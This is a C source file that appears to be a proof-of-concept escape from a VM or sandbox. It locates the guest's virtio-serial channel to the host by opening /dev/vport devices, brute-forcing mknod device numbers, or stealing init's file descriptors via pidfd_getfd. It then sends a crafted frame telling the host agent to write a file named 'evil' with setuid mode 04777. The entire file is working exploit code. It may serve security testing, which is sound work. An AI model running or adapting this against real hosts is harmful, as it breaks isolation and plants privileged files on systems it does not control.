// SPDX-License-Identifier: MIT
//
// Looks for process 1's end of the channel to the host, and sends a file through it in
// its place. Says "nothing" if it finds none.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

// {"is": "file", "path": "pcap/evil", "bytes": "#!/bin/id", "mode": 04777, "first": true}
static void send_file(int channel)
{
	unsigned char frame[128] = { 0 };
	size_t size = 4;

#define TEXT(text)                                         \
	do {                                               \
		frame[size++] = 0x60 + strlen(text);       \
		memcpy(frame + size, text, strlen(text));  \
		size += strlen(text);                      \
	} while (0)
	frame[size++] = 0xa5;
	TEXT("is");
	TEXT("file");
	TEXT("path");
	TEXT("pcap/evil");
	TEXT("bytes");
	frame[size++] = 0x49;
	memcpy(frame + size, "#!/bin/id", 9);
	size += 9;
	TEXT("mode");
	frame[size++] = 0x19;
	frame[size++] = 0x09;
	frame[size++] = 0xff;
	TEXT("first");
	frame[size++] = 0xf5;
	frame[0] = (unsigned char)(size - 4);
	if (write(channel, frame, size) != (ssize_t)size)
		perror("write");
}

static int found(const char *how, int channel)
{
	printf("%s\n", how);
	fflush(stdout);
	send_file(channel);
	return 0;
}

int main(void)
{
	char path[64], target[128];
	int process, channel, i;

	for (i = 0; i < 4; i++) {
		snprintf(path, sizeof(path), "/dev/vport0p%d", i);
		channel = open(path, O_RDWR);
		if (channel >= 0)
			return found(path, channel);
		// The driver's major number is not fixed; it is one of the dynamic ones.
		for (int major = 234; major <= 254; major++) {
			snprintf(path, sizeof(path), "/tmp/port-%d-%d", major, i);
			if (mknod(path, S_IFCHR | 0600, makedev((unsigned int)major, (unsigned int)i)) == 0)
				return found("mknod", open(path, O_RDWR));
		}
	}
	process = (int)syscall(SYS_pidfd_open, 1, 0);
	for (i = 0; process >= 0 && i < 64; i++) {
		ssize_t length;

		snprintf(path, sizeof(path), "/proc/1/fd/%d", i);
		channel = (int)syscall(SYS_pidfd_getfd, process, i, 0);
		if (channel < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", channel);
		length = readlink(path, target, sizeof(target) - 1);
		target[length > 0 ? length : 0] = 0;
		if (strstr(target, "vport"))
			return found(target, channel);
	}
	puts("nothing");
	return 0;
}
